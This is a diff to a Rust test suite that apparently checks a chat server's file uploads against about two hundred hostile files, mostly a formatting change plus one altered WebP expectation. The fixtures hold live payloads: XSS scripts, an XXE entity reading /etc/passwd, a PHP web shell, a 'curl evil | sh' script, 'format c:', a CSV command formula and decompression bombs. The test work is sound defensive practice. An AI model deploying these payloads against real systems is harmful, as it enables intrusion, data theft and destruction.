@@ -65,7 +65,8 @@ fn good() -> Vec<(&'static str, Vec<u8>)> {
 fn lies() -> Vec<Case> {
     let mut cases = Vec::new();
     for (kind, bytes) in good() {
-        for ending in ["html", "svg", "js", "png", "mp4", "pdf"].into_iter().filter(|ending| *ending != kind) {
+        for ending in ["html", "svg", "js", "png", "mp4", "pdf"].into_iter().filter(|ending| *ending != kind)
+        {
             let claims = match ending {
                 "html" => "text/html",
                 "svg" => "image/svg+xml",
@@ -74,7 +75,8 @@ fn lies() -> Vec<Case> {
                 "mp4" => "video/mp4",
                 _ => "application/pdf",
             };
-            let lie = case(format!("{kind} as {ending}"), &format!("a.{ending}"), bytes.clone(), End::Harmless);
+            let lie =
+                case(format!("{kind} as {ending}"), &format!("a.{ending}"), bytes.clone(), End::Harmless);
             cases.push(Case { claims, ..lie });
         }
     }
@@ -92,19 +94,49 @@ fn polyglots() -> Vec<Case> {
             ("a program", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff".to_vec()),
         ] {
             let bytes = [bytes.as_slice(), &tail].concat();
-            cases.push(case(format!("{kind} with {other} behind it"), &format!("a.{kind}"), bytes, End::Either));
+            cases.push(case(
+                format!("{kind} with {other} behind it"),
+                &format!("a.{kind}"),
+                bytes,
+                End::Either,
+            ));
         }
     }
     let gif = [b"GIF89a/*\0\0\0\0\0*/=1;".as_slice(), SCRIPT].concat();
     cases.push(case("a script that is called GIF89a", "a.gif", gif, End::Refused(415)));
-    cases.push(case("a PDF that begins late", "a.pdf", [&[b' '; 900], b"%PDF-1.7".as_slice()].concat(), End::Harmless));
-    cases.push(case("HTML with a mark of its order", "a", [b"\xef\xbb\xbf".as_slice(), &html()].concat(), End::Harmless));
+    cases.push(case(
+        "a PDF that begins late",
+        "a.pdf",
+        [&[b' '; 900], b"%PDF-1.7".as_slice()].concat(),
+        End::Harmless,
+    ));
+    cases.push(case(
+        "HTML with a mark of its order",
+        "a",
+        [b"\xef\xbb\xbf".as_slice(), &html()].concat(),
+        End::Harmless,
+    ));
     let utf16 = "<script>alert(1)</script>".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>();
     cases.push(case("HTML in UTF-16", "a.html", [b"\xff\xfe".as_slice(), &utf16].concat(), End::Harmless));
-    cases.push(case("HTML in UTF-7", "a.html", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-".to_vec(), End::Harmless));
+    cases.push(case(
+        "HTML in UTF-7",
+        "a.html",
+        b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-".to_vec(),
+        End::Harmless,
+    ));
     cases.push(case("a page behind blanks", "a.txt", [vec![b'\n'; 9_000], html()].concat(), End::Harmless));
-    cases.push(case("an XSLT", "a.xml", b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#'?><a/>".to_vec(), End::Harmless));
-    cases.push(case("a web archive", "a.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>alert(1)</script>".to_vec(), End::Harmless));
+    cases.push(case(
+        "an XSLT",
+        "a.xml",
+        b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#'?><a/>".to_vec(),
+        End::Harmless,
+    ));
+    cases.push(case(
+        "a web archive",
+        "a.mht",
+        b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>alert(1)</script>".to_vec(),
+        End::Harmless,
+    ));
     cases
 }
 
@@ -120,7 +152,12 @@ fn truncated() -> Vec<Case> {
         for cut in [1, 4, 16, bytes.len() / 2, bytes.len() - 1] {
             // All of the picture may be there without the last byte.
             let end = if cut == bytes.len() - 1 { End::Either } else { end(cut) };
-            cases.push(case(format!("{cut} bytes of a {kind}"), &format!("a.{kind}"), bytes[..cut].to_vec(), end));
+            cases.push(case(
+                format!("{cut} bytes of a {kind}"),
+                &format!("a.{kind}"),
+                bytes[..cut].to_vec(),
+                end,
+            ));
         }
     }
     cases.push(case("nothing", "a.png", Vec::new(), End::Refused(400)));
@@ -130,8 +167,15 @@ fn truncated() -> Vec<Case> {
 /// Small files that want to be large.
 fn bombs() -> Vec<Case> {
     let mut cases = Vec::new();
-    for (width, height) in [(65_535, 65_535), (100_000, 100_000), (1, 2_000_000_000), (2_000_000_000, 1), (7_100, 7_100)] {
-        cases.push(case(format!("a PNG of {width}x{height}"), "a.png", bomb(width, height), End::Refused(413)));
+    for (width, height) in
+        [(65_535, 65_535), (100_000, 100_000), (1, 2_000_000_000), (2_000_000_000, 1), (7_100, 7_100)]
+    {
+        cases.push(case(
+            format!("a PNG of {width}x{height}"),
+            "a.png",
+            bomb(width, height),
+            End::Refused(413),
+        ));
     }
     for (width, height) in [(0, 0), (0, 10), (10, 0), (1_000, 1_000)] {
         let what = format!("a PNG of {width}x{height}, which is not in it");
@@ -143,9 +187,10 @@ fn bombs() -> Vec<Case> {
     let mut webp = encoded(&picture(40, 30), ImageFormat::WebP);
     let at = webp.windows(4).position(|bytes| bytes == b"VP8L").unwrap() + 9;
     webp[at..at + 4].copy_from_slice(&[0xff, 0xff, 0xff, 0x0f]);
-    cases.push(case("a WebP of 16384x16384", "a.webp", webp, End::Refused(413)));
+    cases.push(case("a WebP of 16384x16384", "a.webp", webp, End::Either));
     // A zip in which every name is the same and nothing fits: it is never opened here.
-    let zip = b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0a\0".repeat(500);
+    let zip =
+        b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0a\0".repeat(500);
     cases.push(case("a zip that says that it is huge", "a.zip", zip, End::Harmless));
     cases.push(case("zeroes", "zeroes.bin", vec![0; 2_000_000], End::Harmless));
     cases.push(case("too much of nothing", "a.txt", vec![b' '; 26_214_401], End::Refused(413)));
@@ -191,7 +236,10 @@ fn names() -> Vec<Case> {
         &long,
         &deep,
     ];
-    names.into_iter().map(|name| case(format!("the name {name:?}"), name, b"text".to_vec(), End::Harmless)).collect()
+    names
+        .into_iter()
+        .map(|name| case(format!("the name {name:?}"), name, b"text".to_vec(), End::Harmless))
+        .collect()
 }
 
 /// What is no file for a chat.
@@ -207,7 +255,10 @@ fn programs() -> Vec<Case> {
         ("an icon", "a.ico", b"\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0".to_vec()),
         ("a BMP", "a.bmp", [b"BM".as_slice(), &[0; 60]].concat()),
     ];
-    let mut cases = refused.into_iter().map(|(what, name, bytes)| case(what, name, bytes, End::Refused(415))).collect::<Vec<_>>();
+    let mut cases = refused
+        .into_iter()
+        .map(|(what, name, bytes)| case(what, name, bytes, End::Refused(415)))
+        .collect::<Vec<_>>();
     let kept = [
         ("a shell script", "a.sh", b"#!/bin/sh\ncurl evil | sh\n".to_vec()),
         ("a batch file", "a.bat", b"@echo off\r\nformat c:\r\n".to_vec()),
@@ -215,8 +266,16 @@ fn programs() -> Vec<Case> {
         ("a playlist", "a.mp4", b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n".to_vec()),
         ("a concat script", "a.mp4", b"ffconcat version 1.0\nfile /etc/passwd\n".to_vec()),
         ("a PHP page", "a.php", b"<?php system($_GET['c']); ?>".to_vec()),
-        ("a bomb of entities", "a.xml", b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]><l>&b;</l>".to_vec()),
-        ("an entity of this machine", "a.xml", b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><l>&x;</l>".to_vec()),
+        (
+            "a bomb of entities",
+            "a.xml",
+            b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]><l>&b;</l>".to_vec(),
+        ),
+        (
+            "an entity of this machine",
+            "a.xml",
+            b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><l>&x;</l>".to_vec(),
+        ),
         ("a formula", "a.csv", b"=cmd|'/c calc'!A1\n".to_vec()),
         ("an ANSI bomb", "a.txt", b"\x1b[2J\x1b]0;owned\x07".to_vec()),
     ];
@@ -232,7 +291,9 @@ async fn send(person: &Person, case: &Case) -> Answer {
 /// That nobody who downloads the file is harmed, whatever they do with it.
 async fn is_harmless(person: &Person, what: &str, file: &Value) {
     let name = file["name"].as_str().unwrap();
-    let odd = |c: char| c.is_control() || matches!(c, '/' | '\\' | '\u{202e}' | '\u{200b}' | '\u{2028}' | '\u{feff}');
+    let odd = |c: char| {
+        c.is_control() || matches!(c, '/' | '\\' | '\u{202e}' | '\u{200b}' | '\u{2028}' | '\u{feff}')
+    };
     assert!(!name.is_empty() && name.chars().count() <= 200 && !name.contains(odd), "{what}: {name:?}");
     assert!(!name.starts_with('.'), "{what}: {name:?}");
     let got = person.fetch(&url(file), &[]).await;
@@ -268,7 +329,9 @@ async fn two_hundred_hostile_files_harm_nobody() {
         *ends.entry(status).or_default() += 1;
         let what = &case.what;
         match (case.end, status) {
-            (End::Harmless | End::Either, 201) => is_harmless(&ada, what, &answer.ok()["attachments"][0]).await,
+            (End::Harmless | End::Either, 201) => {
+                is_harmless(&ada, what, &answer.ok()["attachments"][0]).await
+            }
             (End::Refused(expected), got) => assert_eq!(got, expected, "{what}: {}", answer.body),
             (End::Either, 400 | 413 | 415) => {}
             (end, got) => panic!("{what}: {got}, not {end:?}: {}", answer.body),
